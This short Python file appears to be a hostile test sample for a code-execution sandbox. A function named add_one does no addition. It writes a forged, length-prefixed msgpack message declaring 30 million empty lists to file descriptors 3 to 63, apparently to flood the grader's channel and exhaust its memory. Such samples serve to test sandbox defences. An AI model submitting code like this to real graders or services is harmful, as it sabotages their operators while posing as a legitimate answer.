"""Answers with small bytes that would become gigabytes: empty lists by the million."""
# harms: class
# seconds: 3

import os
import struct


def add_one(x):
    count = 30_000_000
    body = b"\xdd" + struct.pack(">I", count) + b"\x90" * count
    for number in range(3, 64):
        try:
            view = memoryview(struct.pack(">I", len(body)) + body)
            while view:
                view = view[os.write(number, view) :]
        except OSError:
            pass
